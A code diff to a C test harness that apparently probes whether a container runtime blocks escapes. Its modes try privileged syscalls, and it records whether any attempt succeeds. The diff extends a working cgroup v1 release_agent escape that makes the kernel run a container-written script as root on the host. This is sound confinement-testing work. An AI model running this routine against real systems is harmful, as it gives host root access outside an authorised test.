@@ -67,6 +67,8 @@
 #define FSCONFIG_CMD_CREATE_ 6
 
 static bool escaped = false;
+static pid_t children[8];
+static size_t n_children = 0;
 
 /* step WHAT R: reports one attempt; R < 0 means refused, errno says why */
 static int step(const char *mode, const char *what, long r) {
@@ -305,6 +307,8 @@ static int mode_clone(int argc, char **argv) {
         pid_t pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, 0);
         if (pid == 0)
                 child_holds();
+        if (pid > 0)
+                children[n_children++] = pid;
         return step("clone", "CLONE_NEWUSER", pid);
 }
 
@@ -314,6 +318,8 @@ static int mode_clone3(int argc, char **argv) {
         pid_t pid = syscall(SYS_clone3, &a, sizeof(a));
         if (pid == 0)
                 child_holds();
+        if (pid > 0)
+                children[n_children++] = pid;
         return step("clone3", "CLONE_NEWUSER", pid);
 }
 
@@ -491,8 +497,9 @@ static int mode_swap_loop(int argc, char **argv) {
         return 0;
 }
 
-/* release-agent DIR AGENT: cgroup v1's classic: mount a v1 hierarchy, set release_agent to AGENT (a host path
- * to a script the container wrote), have a process leave a child cgroup so that the kernel runs it on the host */
+/* release-agent DIR AGENT NAME: cgroup v1's classic: mount a v1 hierarchy at DIR, set release_agent to AGENT (a
+ * host path to a script the container wrote), have a process leave a child cgroup NAME with notify_on_release
+ * set, so that the kernel runs AGENT as root on the host */
 static int mode_release_agent(int argc, char **argv) {
         (void) argc;
         char path[4096];
@@ -506,14 +513,14 @@ static int mode_release_agent(int argc, char **argv) {
         }
         snprintf(path, sizeof(path), "%s/release_agent", argv[1]);
         try_write("release-agent", path, argv[2]);
-        snprintf(path, sizeof(path), "%s/x", argv[1]);
+        snprintf(path, sizeof(path), "%s/%s", argv[1], argv[3]);
         step("release-agent", "mkdir", mkdir(path, 0755));
-        snprintf(path, sizeof(path), "%s/x/notify_on_release", argv[1]);
+        snprintf(path, sizeof(path), "%s/%s/notify_on_release", argv[1], argv[3]);
         try_write("release-agent", path, "1");
         pid_t pid = fork();
         if (pid == 0) {
                 char procs[4096], me[32];
-                snprintf(procs, sizeof(procs), "%s/x/cgroup.procs", argv[1]);
+                snprintf(procs, sizeof(procs), "%s/%s/cgroup.procs", argv[1], argv[3]);
                 snprintf(me, sizeof(me), "%d", getpid());
                 int fd = open(procs, O_WRONLY | O_CLOEXEC);
                 if (fd >= 0)
@@ -522,6 +529,12 @@ static int mode_release_agent(int argc, char **argv) {
         }
         if (pid > 0)
                 waitpid(pid, NULL, 0);
+        return 0;
+}
+
+/* idle: nothing; "hold idle" keeps a container running for ctrctl exec */
+static int mode_idle(int argc, char **argv) {
+        (void) argc, (void) argv;
         return 0;
 }
 
@@ -541,6 +554,7 @@ static const struct mode {
         { "create",        2, mode_create,        "PATH DATA" },
         { "fsopen",        2, mode_fsopen,        "FSTYPE TARGET" },
         { "handle",        5, mode_handle,        "MOUNTPATH INO GEN RELPATH DATA" },
+        { "idle",          0, mode_idle,          "" },
         { "io_uring",      0, mode_io_uring,      "" },
         { "kexec",         1, mode_kexec,         "KERNEL" },
         { "kexec-unload",  0, mode_kexec_unload,  "" },
@@ -555,7 +569,7 @@ static const struct mode {
         { "proc-roots",    2, mode_proc_roots,    "PATH DATA" },
         { "ptrace",        1, mode_ptrace,        "PID" },
         { "read",          1, mode_read,          "PATH [OFFSET [LEN]]" },
-        { "release-agent", 2, mode_release_agent, "DIR AGENT" },
+        { "release-agent", 3, mode_release_agent, "DIR AGENT NAME" },
         { "remount-rw",    1, mode_remount_rw,    "TARGET" },
         { "swap-loop",     3, mode_swap_loop,     "SECONDS A B [A B…]" },
         { "umount",        1, mode_umount,        "TARGET" },
@@ -595,6 +609,11 @@ int main(int argc, char **argv) {
                         fflush(stdout);
                         for (;;)
                                 pause();
+                }
+                /* without "hold", a child that got somewhere does not outlive the attack */
+                for (size_t c = 0; c < n_children; c++) {
+                        kill(children[c], SIGKILL);
+                        waitpid(children[c], NULL, 0);
                 }
                 return escaped ? 1 : 0;
         }
